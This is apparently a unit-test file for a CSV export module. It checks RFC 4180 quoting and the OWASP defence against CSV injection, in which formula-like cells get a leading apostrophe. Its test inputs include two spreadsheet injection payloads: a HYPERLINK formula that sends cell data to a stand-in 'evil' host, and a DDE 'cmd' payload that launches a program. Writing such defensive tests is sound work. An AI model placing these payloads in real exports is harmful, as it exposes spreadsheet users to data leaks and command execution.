// CSV export cells: RFC 4180 quoting, and OWASP's defence against CSV injection (a cell
// that a spreadsheet would run as a formula gets a leading apostrophe).
import t from 'tap';
import { csvField, toCsv } from '../../../../server/routes/v1/export.js';

t.test('formula-like cells are neutralised; others are exact', async (t) => {
  for (const start of ['=', '+', '-', '@', '\t', '\r']) {
    const cell = csvField(`${start}HYPERLINK("http://evil/?"&A1)`);
    t.ok(cell.startsWith(`"'${start}`) || cell.startsWith(`'${start}`), `${JSON.stringify(start)}: a leading apostrophe`);
  }
  t.equal(csvField('=1+1'), "'=1+1");
  t.equal(csvField('-5'), "'-5", 'a leading minus too (a spreadsheet computes -5+A1)');
  t.equal(csvField('@SUM(A1)'), "'@SUM(A1)");
  t.equal(csvField('\tx'), "'\tx");
  t.equal(csvField('\rx'), `"'\rx"`, 'and quoted when it holds a CR');
  t.equal(csvField('a=b'), 'a=b', 'only the first character counts');
  t.equal(csvField(' =x'), ' =x');
  t.equal(csvField('plain'), 'plain');
  t.equal(csvField('a,b'), '"a,b"');
  t.equal(csvField('say "hi"'), '"say ""hi"""');
  t.equal(csvField(''), '');
});

t.test('a whole export', async (t) => {
  const csv = toCsv({ project: { id: 'p', slug: 'p' }, environment: 'prod', path: '/', entries: [{ key: 'K', value: '=cmd|\'/C calc\'!A0', comment: '+c' }] });
  t.equal(csv, "key,value,comment\r\nK,'=cmd|'/C calc'!A0,'+c\r\n");
});
